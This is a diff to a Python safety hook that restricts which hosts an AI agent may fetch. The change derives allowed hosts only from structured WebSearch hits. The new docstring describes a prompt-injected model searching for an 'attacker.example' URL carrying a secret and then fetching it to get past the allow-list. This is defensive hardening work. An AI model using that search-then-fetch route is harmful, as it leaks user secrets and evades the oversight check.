@@ -31,7 +31,8 @@ What each check does, and how it fails:
   ``max_fanout`` dispatches in flight; at most ``max_fanout × max_rounds`` fetcher dispatches in
   the run; a prompt declaring ``round=N`` above ``max_rounds`` is denied.
 * **no active run** — only the fetch-safety check applies; everything else passes.
-* **PostToolUse** (recording WebSearch hosts, agent completions) cannot block and *fails open*:
+* **PostToolUse** (recording WebSearch hosts — from the structured hits only, never from the
+  echoed query or prose — and agent completions) cannot block and *fails open*:
   a missed record only makes later checks stricter (fewer hosts, more agents counted in flight;
   a dispatch stops counting after an hour).
 """
@@ -83,7 +84,6 @@ _WRAPPERS = frozenset({"env", "sudo", "nohup", "time", "command", "exec", "xargs
                        "timeout", "stdbuf"})
 _SHELL_SEPARATORS = frozenset({"&&", "||", ";", "|", "&", "(", ")", ";;", "|&"})
 _ROUND = re.compile(r"\bround\s*[=:]\s*(\d+)", re.IGNORECASE)
-_URL = re.compile(r"https?://[^\s\"'<>\\)\]}]+", re.IGNORECASE)
 _FETCH_OPTIONS_WITH_VALUE = frozenset({"--brief", "--max-chars"})
 
 
@@ -375,11 +375,38 @@ def record(event: Mapping[str, Any], state: Path) -> None:
         with locked(brief):
             append_ledger(brief, {"event": "done", "id": str(event.get("tool_use_id") or "")})
     elif tool == "WebSearch":
-        found = _URL.findall(json.dumps(event.get("tool_response"), ensure_ascii=False))
+        found = search_hit_urls(event.get("tool_response"))
         hosts = sorted({host for url in found if (host := host_of(url)) and _public(host)})
         if hosts:
             with locked(brief):
                 add_hosts(brief, hosts)
+
+
+def search_hit_urls(response: Any) -> list[str]:
+    """The ``url`` fields of the structured hits under a WebSearch response's ``results``.
+
+    Only hits count. The response also echoes the model's own ``query`` and carries the search
+    model's prose, and a URL written into either would otherwise open its host: a prompt-injected
+    model could search for ``https://attacker.example/?s=<secret>`` and then fetch it. An unknown
+    shape yields nothing, which only keeps the allow-list narrower.
+    """
+    urls: list[str] = []
+
+    def walk(node: Any) -> None:
+        if isinstance(node, dict):
+            url = node.get("url")
+            if isinstance(url, str):
+                urls.append(url)
+            for value in node.values():
+                walk(value)
+        elif isinstance(node, list):
+            for item in node:
+                walk(item)
+        # A string is prose: any URL in it is the writer's, not the search engine's.
+
+    if isinstance(response, dict):
+        walk(response.get("results"))
+    return urls
 
 
 def _public(host: str) -> bool:
